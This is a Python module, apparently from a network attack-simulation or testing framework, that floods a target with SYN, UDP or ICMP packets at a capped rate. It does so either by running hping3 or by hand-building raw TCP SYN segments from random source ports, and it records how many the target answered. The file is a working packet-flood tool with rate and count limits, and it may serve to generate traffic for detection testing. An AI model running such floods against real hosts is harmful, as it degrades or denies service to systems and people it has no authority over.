"""Floods of packets at a bounded rate, by hping3 and by sockets of our own."""

from __future__ import annotations

import re
import socket
import time

from common import Session, begun, emit, main
from common_syn import OPTIONS, answers, segment
from common_tool import home, run_tool

MAX_RATE_S, MAX_PACKETS = 500.0, 4_000
HPING = {"syn": ("-S",), "udp": ("--udp",), "icmp": ("--icmp",)}


def act(session: Session) -> None:
    """Flood; the effect is that the target had to deal with most of it."""
    variant, params = str(session.params["variant"]), session.params
    rate_s = min(float(params["rate_s"]), MAX_RATE_S)
    # Time for hping3 to say how it went is left over.
    count = min(int(params["packets"]), MAX_PACKETS, int(rate_s * max(session.left_s() - 4, 1)))
    sent = answered = 0
    try:
        if variant == "own-syn":
            sent, answered = _ours(session, rate_s, count)
        else:
            sent, answered = _by_hping(session, variant, rate_s, count)
    finally:
        # A closed UDP port answers few of them only: that they went out must do.
        success = sent >= min(50, count) and (variant == "udp" or answered > sent / 2)
        emit("effect", success=success, sent=sent, answered=answered)


def _by_hping(session: Session, variant: str, rate_s: float, count: int) -> tuple[int, int]:
    command = ["hping3", "-n", "-q", *HPING[variant], "-c", str(count)]
    command += ["-i", f"u{int(1e6 / rate_s)}", "-d", str(session.params["bytes"])]
    if variant != "icmp":
        command += ["-p", str(session.port)]
    with home() as folder:
        said = run_tool(session, [*command, session.peer["address"]], folder, fine=None).output
    told = re.search(r"(\d+) packets t\w+, (\d+) packets received", said)
    return (int(told[1]), int(told[2])) if told else (0, 0)


def _ours(session: Session, rate_s: float, count: int) -> tuple[int, int]:
    """SYNs from many source ports; the kernel, which knows of none, resets what is answered."""
    rng, address = session.rng, session.peer["address"]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect((address, 9))
        source = probe.getsockname()[0]
    sports, options = range(20_000, 32_000), rng.choice(OPTIONS)
    sent = answered = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP) as raw:
        begun()
        while sent < count and session.rest_s(rng.expovariate(rate_s)):
            sequence = rng.getrandbits(32)
            packet = segment(source, (address, session.port), rng.choice(sports), sequence, options)
            raw.sendto(packet, (address, 0))
            sent += 1
            answered += sum(1 for _ in answers(raw, sports))
        time.sleep(0.2)
        answered += sum(1 for _ in answers(raw, sports))
    return sent, answered


if __name__ == "__main__":
    main(None, act)
